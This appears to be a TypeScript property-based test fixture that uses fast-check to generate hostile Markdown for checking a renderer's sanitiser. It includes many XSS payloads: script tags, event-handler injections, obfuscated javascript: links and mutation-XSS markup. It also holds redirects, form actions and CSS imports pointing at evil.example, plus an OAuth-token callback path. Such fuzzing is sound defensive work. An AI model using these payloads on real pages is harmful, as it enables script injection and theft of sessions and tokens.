import fc from 'fast-check';

// Texts that want to run something in the page that shows them. `HACKED` becomes true in a page where one did.

export const HACKED = 'hackedByMarkdown';
const run = `window.${HACKED}=true`;

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'java%0ascript:',
  'data:text/html;base64,',
  'data:text/html,',
  'vbscript:',
  'blob:https://cowrie.example/',
  'http://',
  'https://user:pass@',
  '//',
  '/\\',
  '\\\\',
  '/w/../../',
  '/oauth/callback?token=a&refresh_token=b&email=',
  'mailto:a@b.example?bcc=',
];
const sinks = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.${HACKED}=true</script>"></iframe>`,
  `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<details open ontoggle=${run}>`,
  `<a href="javascript:${run}">x</a>`,
  `<style>@import'//evil.example/x.css'</style>`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example"><button>x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
  `<object data="javascript:${run}">`,
  `"><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `<javascript:${run}>`,
  `<https://evil.example>`,
  `![x](https://evil.example/x.png)`,
  `![x](x "onerror=${run}")`,
  `[x]: javascript:${run}`,
  '[x][x]',
  '`<script>`',
  '| a | b |\n|---|---|\n| <b> | ** |',
  '---',
  '> quote',
  '\u202Etxt.exe\u202C',
  '\u0000',
  '\u200B\uFEFF',
  '\uD800',
  '[[[[[[[[[[',
  '((((((((((',
  '**'.repeat(20),
  '*_~`#',
  '\\[x\\](javascript:x)',
];
const address = fc.constantFrom(...schemes).map((scheme) => `${scheme}${run}`);
const label = fc.constantFrom('x', '**x**', '<b>x</b>', '[x]', `<img src=x onerror=${run}>`, '', '\u202E');
const link = fc
  .tuple(label, address)
  .chain(([text, href]) =>
    fc.constantFrom(
      `[${text}](${href})`,
      `[${text}]( ${href} )`,
      `[${text}](<${href}>)`,
      `[${text}](${href} "title")`,
      `[${text}\\](${href})`,
      `**[${text}](${href})**`,
      `[a[${text}](${href})b](/w)`,
      `[${text}](/w](${href})`,
      `[${text}](/w)(${href})`,
      `## [${text}](${href})`,
      `- [${text}](${href})`,
      `1. ${href}`,
    ),
  );
const piece = fc.oneof(link, fc.constantFrom(...sinks), fc.string({ unit: 'binary', maxLength: 20 }));

/** One text: attacks beside, within and after each other, with a link that is allowed. */
export const hostileMarkdown = fc
  .tuple(fc.array(piece, { minLength: 1, maxLength: 8 }), fc.constantFrom('', ' ', '\n', '\n\n', '**', '['))
  .map(([pieces, joint]) => `${pieces.join(joint)}\n\n[Receive](/w/receive)`);

/** The same texts for the same seed. */
export const hostileTexts = (count: number, seed: number): string[] =>
  fc.sample(hostileMarkdown, { numRuns: count, seed });
